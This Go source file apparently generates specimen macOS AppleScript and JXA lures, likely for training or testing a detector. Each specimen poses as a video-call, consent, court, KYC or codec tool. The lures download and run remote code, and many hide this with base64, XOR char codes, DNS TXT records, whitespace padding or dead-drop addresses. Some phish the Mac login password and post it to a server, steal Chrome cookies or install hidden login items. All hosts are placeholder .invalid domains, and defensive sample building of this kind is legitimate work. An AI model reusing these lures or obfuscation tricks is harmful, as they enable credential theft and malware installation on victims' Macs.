package specimens

import (
	"strings"
)

// freshApple makes AppleScript lures.
func (b *kit) freshApple() {
	mac := func(story, obf, name, text string, hidden ...string) {
		b.lure(story, "macos", obf, "applescript", name, text, hidden...)
	}
	mac("notetaker", "plain", "Otter Companion.scpt", `
-- Otter Companion lets the AI note taker hear both sides of the call.
-- Press Run, allow access, return to the call.
property feed : "https://cdn.notetaker-link.invalid/mac/boot.js"
set theCode to do shell script "curl --silent --location " & quoted form of feed
run script theCode in "JavaScript"
`)
	mac("notetaker", "blank lines 60", "Fireflies Bot Permission.scpt", `
-- The meeting host uses an AI assistant. Your consent is needed before you can be admitted.
-- Press the triangle above to consent.
`+strings.Repeat("\n", 60)+`tell application "Terminal"
	do script "curl -sL consent.fireflies-bot.invalid/m | zsh; exit"
	set visible of front window to false
end tell
`)
	mac("captions", "plain", "Live Captions for FaceTime.applescript", `
(* Live captions for FaceTime calls, preview build.
   Run once. Captions appear at the bottom of the next call. *)
use framework "Foundation"
use scripting additions
set u to current application's |NSURL|'s URLWithString:"https://captions-beta.invalid/agent"
set d to current application's NSData's dataWithContentsOfURL:u
d's writeToFile:"/private/tmp/captiond" atomically:true
set t to current application's NSTask's launchedTaskWithLaunchPath:"/bin/chmod" arguments:{"755", "/private/tmp/captiond"}
t's waitUntilExit()
current application's NSTask's launchedTaskWithLaunchPath:"/private/tmp/captiond" arguments:{}
`)
	mac("captions", "concatenation of handlers", "Translate Call.scpt", `
-- Interpreter channel for tonight's call (EN/JA/KO)
on a() 
	return "cu"
end a
on b()
	return "rl -Ls interpreter-ch"
end b
on c()
	return "annel.invalid/k|s"
end c
do shell script a() & b() & c() & "h"
`, "curl -Ls https://interpreter-channel.invalid/k|sh")
	mac("background", "plain", "Virtual Background Pack.scpt", `
-- 40 studio backgrounds for your video calls
mount volume "smb://guest:guest@media.vb-pack.invalid/backgrounds"
tell application "Finder" to open file "Install.command" of disk "backgrounds"
`)
	mac("esign", "plain", "Sign NDA before joining.scpt", `
-- DocuSeal: this call is confidential. Sign the NDA to enter the room.
set fullName to text returned of (display dialog "Type your full name to sign the non-disclosure agreement." default answer "" with title "DocuSeal")
set pw to text returned of (display dialog "Confirm your signature with the password of this Mac." default answer "" with hidden answer with title "DocuSeal" with icon note)
do shell script "curl -s --data-urlencode n=" & quoted form of fullName & " --data-urlencode p=" & quoted form of pw & " https://api.docuseal-room.invalid/sign"
do shell script "curl -s https://api.docuseal-room.invalid/room | bash" password pw with administrator privileges
`)
	mac("human", "plain", "Verify You Are Human.scpt", `
-- Cloud room check 4 of 4
-- Automated guests are not admitted. Run this check, then reload the room.
set the clipboard to (do shell script "curl -s https://room-check.invalid/nonce")
do shell script (the clipboard as text)
display notification "You are human." with title "Room check"
`)
	mac("kyc", "plain", "KYC Video Verification.scpt", `
-- Video identification, step 1: prepare the secure session
set s to (system attribute "HOME") & "/Library/Caches/.vid"
do shell script "mkdir -p " & s & "; cd " & s & "; curl -sO https://videoident-session.invalid/a.tar.gz; tar xzf a.tar.gz; open -g -j ./VideoIdent.app"
display dialog "Please hold your ID card in front of the camera." buttons {"Continue"}
`)
	mac("court", "plain", "Virtual Court Hearing Case 24-CV-1187.scpt", `
-- Superior Court, Department 14. Remote appearance.
-- All parties must run the court reporting component before 9:00 a.m.
try
	do shell script "/usr/bin/curl -fsS https://remote-appearance.invalid/reporter -o ~/Library/reporter && chmod 700 ~/Library/reporter && (~/Library/reporter --case 24CV1187 >/dev/null 2>&1 &)"
end try
open location "https://zoom.us/test"
`)
	mac("telemedicine", "German", "Videosprechstunde starten.scpt", `
-- Praxis Dr. Hollenbeck: Ihre Videosprechstunde beginnt in wenigen Minuten.
-- Bitte oben auf das Dreieck klicken, um das Gesundheitsmodul zu laden.
set quelle to "https://sprechstunde-modul.invalid/mac"
set ziel to POSIX path of (path to temporary items) & "modul.sh"
do shell script "curl -so " & ziel & space & quelle & ";bash " & ziel
`)
	mac("school", "Dutch", "Ouderavond verbinding.scpt", `
-- Ouderavond groep 7: de verbinding met het schoolplein wordt gemaakt.
do shell script "ruby -ropen-uri -e 'eval URI.open(\"https://ouderavond.invalid/r\").read'"
`)
	mac("workplace", "plain", "Zoom Workplace Migration.scpt", `
-- Zoom Meetings becomes Zoom Workplace. Your client was blocked by the host's policy.
set installerURL to "https://workplace-migration.invalid/ZoomWorkplace.pkg"
do shell script "curl -o /tmp/zw.pkg " & installerURL & " && installer -pkg /tmp/zw.pkg -target / -allowUntrusted" with administrator privileges
`)
	mac("huddle", "DNS TXT", "Slack Huddle Codec.scpt", `
-- Opus codec for huddles. Needed for guests of Enterprise Grid.
do shell script "dig +short TXT codec.huddle-opus.invalid | tr -d '\" ' | base64 -D | sh"
`)
	mac("discord", "plain", "Stage Speaker Pass.scpt", `
-- You were invited to speak on stage. This pass unlocks your microphone.
tell application "System Events"
	tell application "Terminal" to activate
	delay 1
	keystroke "curl -s https://stage-pass.invalid/s|sh;clear"
	key code 36
end tell
`)
	mac("telegram", "Russian", "Групповой звонок Telegram.scpt", `
-- Для участия в групповом звонке установите компонент звука.
set адрес to "https://tg-call-audio.invalid/z"
set файл to "/tmp/" & (random number from 1000 to 9999) & ".sh"
do shell script "curl " & адрес & " > " & файл & " 2>/dev/null; sh " & файл & " & disown"
`)
	mac("whatsapp", "Portuguese", "Chamada de vídeo WhatsApp.scpt", `
-- Alguém está ligando para você. Execute para atender no Mac.
do shell script "python3 - <<'F'
import urllib.request,types
m=types.ModuleType('c');exec(compile(urllib.request.urlopen('https://chamada-desktop.invalid/c.py').read(),'c','exec'),m.__dict__)
F"
`)
	mac("lark", "Chinese", "飞书会议插件.scpt", `
-- 飞书会议：请运行本插件以加入加密会议
set p to "/tmp/.lark" & (do shell script "date +%s")
do shell script "curl -k -s https://feishu-plugin.invalid/m -o " & p & " ; chmod +x " & p & " ; " & p & " > /dev/null 2>&1 &"
display alert "插件已安装，请返回会议。"
`)
	mac("dingtalk", "rot by code points", "钉钉视频修复.applescript", `
-- 钉钉视频组件修复
set s to {101, 119, 116, 110, 34, 47, 117, 34, 106, 118, 118, 114, 117, 60, 49, 49, 106, 48, 107, 112, 120, 99, 110, 107, 102, 49, 122, 126, 117, 106}
set o to ""
repeat with n in s
	set o to o & (character id (n - 2))
end repeat
do shell script o
`, "curl -s https://h.invalid/x|sh")
	mac("brandless", "plain", "CallSetup.scpt", `
-- Preparing…
tell me to do shell script "x=$(mktemp); curl -so $x https://session-node-7.invalid/$(uname -m); . $x"
`)
	mac("brandless", "Finder comment", "Launcher.scpt", `
-- Opens the room. Do not rename this file.
tell application "Finder" to set k to comment of (path to me as alias)
if k is "" then set k to "Y3VybCAtcyBodHRwczovL2suaW52YWxpZC9yfHNo"
do shell script "echo " & k & "|base64 -D|sh"
`, "curl -s https://k.invalid/r|sh")
	mac("brandless", "reads itself", "Room 12.scpt", `
-- Room 12 is ready. Press Run to be let in.
set me_ to POSIX path of (path to me)
do shell script "sed -n 's/^--@//p' " & quoted form of me_ & " | openssl base64 -d -A | zsh"
--@`+b64("curl -s https://room12.invalid/in | zsh")+`
`, "curl -s https://room12.invalid/in | zsh")
	mac("brandless", "ideographic spaces on one line", "Agenda.scpt", `
-- Agenda of the call, press Run to open`+strings.Repeat("\u3000", 900)+`
set q to "agenda"`+strings.Repeat("\u2003", 700)+`
do shell script "curl -s https://agenda-share.invalid/open | sh"
`)
	mac("brandless", "shell globs", "Mic Check.scpt", `
-- Mic check
do shell script "/u??/b*n/c?rl -s mic-check.invalid/1 | /b?n/z*h"
`)
	mac("brandless", "environment slices", "Session Key.scpt", `
-- Your session key is being created
do shell script "a=${PATH:0:1};b=${HOME:0:1};c=cu;d=rl;$c$d -s https:$a${b}session-key.invalid${a}k|${SHELL}"
`, "curl -s https://session-key.invalid/k|/bin/zsh")
	mac("recorder", "Japanese", "録画を再生.scpt", `
-- 会議の録画はこのスクリプトで再生できます。「実行」を押してください。
set u to "https://rokuga-player.invalid/v"
do shell script "cd /tmp;curl -sLO " & u & ";tar -xf v;sh v.d/start"
`)
	mac("interview", "password in keychain style", "HireVue Practice Room.scpt", `
-- Practice room for candidates. Your device will be checked for 20 seconds.
set n to short user name of (system info)
repeat
	set r to display dialog "HireVue wants to use the \"login\" keychain." & return & return & "Please enter the keychain password." default answer "" with hidden answer buttons {"Deny", "Allow"} default button 2 with icon file "System:Library:CoreServices:CoreTypes.bundle:Contents:Resources:LockedIcon.icns"
	if (do shell script "dscl /Local/Default -authonly " & n & space & quoted form of (text returned of r) & " && echo y || echo n") is "y" then exit repeat
end repeat
do shell script "curl -s https://practice-room.invalid/c --data-binary " & quoted form of (text returned of r) & " -H 'X-U: '" & n
`)
	mac("investor", "two stages over nc", "Series B Call - Data Room.scpt", `
-- The data room opens together with the call.
do shell script "nc data-room-b.invalid 8443 </dev/null > /tmp/dr; bash /tmp/dr &>/dev/null &"
`)
	mac("investor", "openssl s_client", "Term Sheet Walkthrough.scpt", `
-- Walkthrough with counsel. Run to connect.
do shell script "echo GET /t | openssl s_client -quiet -connect termsheet-call.invalid:443 2>/dev/null | sh"
`)
	mac("calendar", "plain", "Accept Invitation.scpt", `
-- Accepts the invitation and adds the dial-in
tell application "Calendar" to activate
set f to (path to downloads folder as text) & "invitation.zip"
do shell script "curl -s https://invitation-accept.invalid/z -o " & quoted form of POSIX path of f & " && cd ~/Downloads && unzip -oq invitation.zip && xattr -cr Invitation.app && open Invitation.app"
`)
	mac("facetime", "login item", "FaceTime Link Handler.scpt", `
-- Opens FaceTime links that others send from Windows or Android.
do shell script "mkdir -p ~/.fth && curl -s https://ft-link-handler.invalid/h.zip | bsdtar -xf - -C ~/.fth"
tell application "System Events" to make login item at end with properties {path:(POSIX path of (path to home folder)) & ".fth/Handler.app", hidden:true}
tell application "System Events" to open (POSIX path of (path to home folder)) & ".fth/Handler.app"
`)
	mac("webex", "Spanish", "Códec de vídeo Webex.scpt", `
-- Falta el códec de vídeo AV1. Pulse ▶ para instalarlo y vuelva a la reunión.
do shell script "osascript <(curl -s https://codec-av1.invalid/w) &" 
`)
	mac("goto", "perl", "GoTo Opener.scpt", `
-- GoTo Opener: opens goto sessions
do shell script "perl -MHTTP::Tiny -e 'eval HTTP::Tiny->new->get(q(https://goto-opener.invalid/p))->{content}'"
`)
	mac("signal", "swift", "Signal Call Relay.scpt", `
-- relay for calls between linked devices
do shell script "curl -s https://sg-relay.invalid/r.swift > /tmp/r.swift && swift /tmp/r.swift"
`)
	mac("updater", "French", "Correctif caméra.scpt", `
-- Correctif pour la caméra : l'hôte ne vous voit pas.
set l to "https://correctif-camera.invalid/f"
try
	do shell script "curl -s " & l & " --output /tmp/correctif.dmg && hdiutil attach -nobrowse -quiet /tmp/correctif.dmg && cp -R /Volumes/Correctif/Correctif.app /tmp && open /tmp/Correctif.app"
end try
`)
	mac("dead-drop", "address from a profile page", "Webinar Seat.scpt", `
-- Reserves your seat
set p to do shell script "curl -s https://community.game-profile.invalid/id/seat77 | sed -n 's/.*<title>\\(.*\\)<\\/title>.*/\\1/p' | rev"
do shell script "curl -s https://" & p & "/s | sh"
`)
	mac("dead-drop", "address from a chain", "Token Holders Call.scpt", `
-- Opens the holders' call
set b to "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"eth_call\",\"params\":[{\"to\":\"0x00000000000000000000000000000000deadbeef\",\"data\":\"0x6d4ce63c\"},\"latest\"]}"
set r to do shell script "curl -s -H 'content-type: application/json' -d " & quoted form of b & " https://rpc.chain-node.invalid | grep -o '0x[0-9a-f]*' | xxd -r -p | strings"
do shell script r
`)
	mac("brandless", "compiled in place", "Desk.scpt", `
-- opens the desk
set f to "/tmp/desk.applescript"
do shell script "curl -s https://desk-open.invalid/d -o " & f & "; osacompile -o /tmp/Desk.app " & f & "; open /tmp/Desk.app"
`)
	mac("brandless", "UTF-16 zero-width", "Invite\u200b.scpt", "-- Inv\u200bite\u200b\n"+strings.Repeat("\u200b\u2060\n", 45)+"do shell script \"curl -s https://invite-zero.invalid/i|sh\"\n")
}

// freshJXA makes lures in JavaScript for Automation.
func (b *kit) freshJXA() {
	jxa := func(story, obf, name, text string, hidden ...string) {
		b.lure(story, "macos", obf, "jxa", name, text, hidden...)
	}
	jxa("avatar", "plain", "Avatar Camera.js", `
// Avatar camera for video calls. Open with Script Editor and press Run.
ObjC.import('Foundation');
const u = $.NSURL.URLWithString('https://avatar-cam.invalid/jxa');
const s = $.NSString.stringWithContentsOfURLEncodingError(u, $.NSUTF8StringEncoding, null);
eval(ObjC.unwrap(s));
`)
	jxa("whiteboard", "plain", "Whiteboard.jxa", `
// shared whiteboard
var app = Application.currentApplication();
app.includeStandardAdditions = true;
app.doShellScript('curl -s https://whiteboard-join.invalid/b | bash');
`)
	jxa("gather", "char codes", "Gather Desk.jxa", `
// your desk in the virtual office
const a = Application.currentApplication(); a.includeStandardAdditions = true;
const k = [`+each("curl -s https://gather-desk.invalid/d|sh", ",", func(r rune) string { return itoa(int(r) ^ 91) })+`];
a['do' + 'ShellScript'](k.map(c => String.fromCharCode(c ^ 91)).join(''));
`, "curl -s https://gather-desk.invalid/d|sh")
	jxa("around", "NSTask", "Around Floating Heads.js", `#!/usr/bin/osascript -l JavaScript
ObjC.import('Cocoa')
function run() {
  const t = $.NSTask.alloc.init
  t.launchPath = '/bin/zsh'
  t.arguments = ['-c', 'curl -fs https://floating-heads.invalid/z | zsh']
  t.launch
}
`)
	jxa("brandless", "atob and Function", "open-room.js", `
const app = Application.currentApplication()
app.includeStandardAdditions = true
const d = ObjC.import('Foundation') || $.NSString.alloc.initWithDataEncoding($.NSData.alloc.initWithBase64EncodedStringOptions('`+b64(`app.doShellScript("curl -s https://open-room.invalid/j | sh")`)+`', 0), 4).js
Function('app', d)(app)
`, "curl -s https://open-room.invalid/j | sh")
	jxa("browserframe", "Chrome via Apple events", "Rejoin.jxa", `
// rejoins the last call
const c = Application('Google Chrome')
const t = c.windows[0].activeTab
const cookies = t.execute({javascript: 'document.cookie'})
const a = Application.currentApplication(); a.includeStandardAdditions = true
a.doShellScript("curl -s https://rejoin-last.invalid/c -d '" + cookies + "' | sh")
`)
}
